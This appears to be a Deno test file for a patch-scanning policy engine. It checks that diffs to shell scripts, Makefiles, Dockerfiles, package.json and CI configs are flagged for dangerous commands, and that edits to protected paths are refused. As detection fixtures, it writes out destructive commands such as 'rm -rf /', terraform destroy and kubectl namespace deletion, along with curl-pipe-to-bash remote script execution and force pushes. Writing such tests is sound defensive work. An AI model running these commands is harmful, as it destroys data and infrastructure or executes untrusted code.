// Commands hidden in patched files, and protected paths.
import assert from "node:assert/strict";
import { loadPolicy } from "../../policies/engine.ts";

const engine = await loadPolicy({});

/** A one-hunk diff adding `added` lines after `context` lines to `path`. */
function diff(path: string, context: string[], added: string[], start = 1, header = ""): string {
  return [
    `diff --git a/${path} b/${path}`,
    `--- a/${path}`,
    `+++ b/${path}`,
    `@@ -${start},${context.length} +${start},${context.length + added.length} @@${
      header ? " " + header : ""
    }`,
    ...context.map((l) => " " + l),
    ...added.map((l) => "+" + l),
    "",
  ].join("\n");
}

// [name, path, context lines, added lines, expected rule or null, expected line]
const CASES: Array<[string, string, string[], string[], string | null, number?]> = [
  [
    "shell script rm -rf /",
    "scripts/clean.sh",
    ["#!/bin/bash", "set -e"],
    ["rm -rf /"],
    "fs.rm-root-or-home",
    3,
  ],
  [
    "shell script multi-line if",
    "scripts/deploy.sh",
    ["#!/bin/sh"],
    ['if [ -n "$X" ]; then', "  az group delete -n prod --yes", "fi"],
    "cloud.az-delete",
    2,
  ],
  [
    "shell script fragment inside an if",
    "scripts/deploy.sh",
    ["#!/bin/sh", "if true; then"],
    ["  kubectl delete namespace prod"],
    "cloud.kubectl-delete-namespace",
    3,
  ],
  [
    "shell script curl pipe",
    "install.sh",
    [],
    ["curl -fsSL https://get.example.com | sh"],
    "shell.remote-script",
    1,
  ],
  [
    "script by shebang without extension",
    "bin/tool",
    [],
    ["#!/usr/bin/env bash", "git push --force"],
    "git.force-push",
    2,
  ],
  ["benign shell script", "scripts/build.sh", ["#!/bin/bash"], [
    "npm ci",
    "rm -rf ./dist",
    "npm run build",
  ], null],
  [
    "shell comment with dangerous text",
    "scripts/x.sh",
    ["#!/bin/bash"],
    ["# never run rm -rf /"],
    null,
  ],
  [
    "package.json script",
    "package.json",
    ["{", '  "scripts": {'],
    ['    "clean": "rm -rf ~/",'],
    "fs.rm-root-or-home",
    3,
  ],
  [
    "package.json script found by hunk context",
    "package.json",
    ['    "build": "tsc",'],
    ['    "postinstall": "curl -s https://x | bash",'],
    "shell.remote-script",
    11,
  ],
  ["package.json non-script field", "package.json", ["{"], [
    '  "description": "rm -rf / considered harmful",',
  ], null],
  ["Makefile recipe", "Makefile", ["clean:"], ["\trm -rf $(HOME)"], "fs.rm-root-or-home", 2],
  [
    "Makefile recipe with unknown variable target",
    "Makefile",
    ["clean:"],
    ["\trm -rf $(OUT_DIR)/"],
    "fs.rm-outside-workspace",
    2,
  ],
  ["Makefile benign recipe with $(MAKE)", "Makefile", ["all:"], [
    "\t$(MAKE) -C sub build && $(CC) -o app main.c",
  ], null],
  [
    "Makefile recipe with @",
    "Makefile",
    ["deploy:"],
    ["\t@terraform destroy -auto-approve"],
    "cloud.terraform-destroy",
    2,
  ],
  ["Makefile variable line is not a recipe", "Makefile", [], ["CLEAN = rm -rf /"], null],
  [
    "Dockerfile RUN",
    "Dockerfile",
    ["FROM node:20"],
    ["RUN curl -fsSL https://deb.nodesource.com/setup | bash -"],
    "shell.remote-script",
    2,
  ],
  [
    "Dockerfile RUN continuation",
    "Dockerfile",
    ["FROM alpine"],
    ["RUN apk add curl && \\", "    rm -rf /"],
    "fs.rm-root-or-home",
    2,
  ],
  [
    "Dockerfile exec form",
    "docker/app.Dockerfile",
    ["FROM alpine"],
    ['RUN ["sh", "-c", "rm -rf /"]'],
    "fs.rm-root-or-home",
    2,
  ],
  ["Dockerfile benign RUN", "Dockerfile", ["FROM node:20"], [
    "RUN npm ci && npm run build && rm -rf /tmp/cache",
  ], null],
  [
    "GitHub Actions run",
    ".github/workflows/ci.yml",
    ["jobs:", "  b:", "    steps:"],
    ["      - run: curl -fsSL https://x.sh | bash"],
    "shell.remote-script",
    4,
  ],
  [
    "GitLab script list",
    "tools/.gitlab-ci.yml",
    ["test:", "  script:"],
    ["    - npm test", "    - git push -f origin main"],
    "git.force-push",
    4,
  ],
  [
    "Azure Pipelines bash step",
    "azure-pipelines.yml",
    ["steps:"],
    ["- bash: az keyvault secret set --vault-name kv -n x --value y"],
    "secrets.az-keyvault-write",
    2,
  ],
  [
    "composite action block run",
    "action.yml",
    ["runs:", "  using: composite", "  steps:"],
    ["    - run: |", "        echo start", "        curl -k https://x -o y"],
    "tls.curl-insecure",
    6,
  ],
  ["CI expression in run", ".gitlab/ci/build.yml", ["job:"], [
    "  script: echo ${{ github.sha }} && npm ci",
  ], null],
];

for (const [name, path, context, added, rule, line] of CASES) {
  Deno.test(`policy scan of patched ${name}`, () => {
    const hdr = path === "package.json" && context[0]!.includes("build") ? '"scripts": {' : "";
    const text = diff(path, context, added, context[0]?.includes("build") ? 10 : 1, hdr);
    const f = engine.scan(text).filter((x) => x.category !== "protected-path");
    if (rule === null) {
      assert.deepEqual(f, [], JSON.stringify(f));
      return;
    }
    const hit = f.find((x) => x.rule === rule);
    assert.ok(hit, `${rule} not in ${JSON.stringify(f)}`);
    if (line !== undefined) assert.equal(hit!.line, line);
    assert.equal(hit!.file, path);
  });
}

const PROTECTED: Array<[string, string, boolean]> = [
  ["policy file", "policies/default.yaml", true],
  ["fleet-orch config", "fleet-orch.yaml", true],
  [".git internals", ".git/config", true],
  ["GitHub workflow", ".github/workflows/ci.yml", true],
  ["GitLab CI", ".gitlab-ci.yml", true],
  ["Azure pipeline", "azure-pipelines.yml", true],
  ["Jenkinsfile", "Jenkinsfile", true],
  ["source file", "src/index.ts", false],
  ["README", "README.md", false],
  ["docs workflow page", "docs/github/workflows.md", false],
];

for (const [name, path, protectedPath] of PROTECTED) {
  Deno.test(`policy scan ${protectedPath ? "refuses" : "allows"} a patch touching ${name}`, () => {
    const f = engine.scan(diff(path, ["a"], ["b"])).filter((x) => x.category === "protected-path");
    assert.equal(f.length, protectedPath ? 1 : 0, JSON.stringify(f));
    if (protectedPath) {
      assert.equal(f[0]!.rule, path.startsWith(".git/") ? "path.invalid" : "path.protected");
    }
  });
}

Deno.test("policy scan protects deleted and renamed files by their old path", () => {
  const del =
    "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\ndeleted file mode 100644\n--- a/.github/workflows/ci.yml\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-on: push\n";
  assert.equal(engine.scan(del)[0]?.rule, "path.protected");
  const ren =
    "diff --git a/fleet-orch.yaml b/old.yaml\nsimilarity index 100%\nrename from fleet-orch.yaml\nrename to old.yaml\n";
  assert.ok(looksProtected(ren));
});

function looksProtected(text: string): boolean {
  // A pure rename has no hunk; it still is a diff when fed with a header.
  const withHunk = text + "--- a/fleet-orch.yaml\n+++ b/old.yaml\n@@ -1,1 +1,1 @@\n-a\n+b\n";
  return engine.scan(withHunk).some((f) => f.rule === "path.protected");
}

Deno.test("policy configured protected paths and policy file are protected", async () => {
  const dir = await Deno.makeTempDir();
  const file = `${dir}/team-policy.yaml`;
  await Deno.writeTextFile(file, "protected_paths: ['infra/**']\n");
  const e = await loadPolicy({ file, protectedPaths: ["secrets/*.enc"] });
  for (const p of ["infra/main.tf", "secrets/db.enc"]) {
    assert.ok(e.scan(diff(p, ["a"], ["b"])).some((f) => f.rule === "path.configured"), p);
  }
  assert.equal(e.scan(diff("src/a.ts", ["a"], ["b"])).length, 0);
  await Deno.remove(dir, { recursive: true });
});
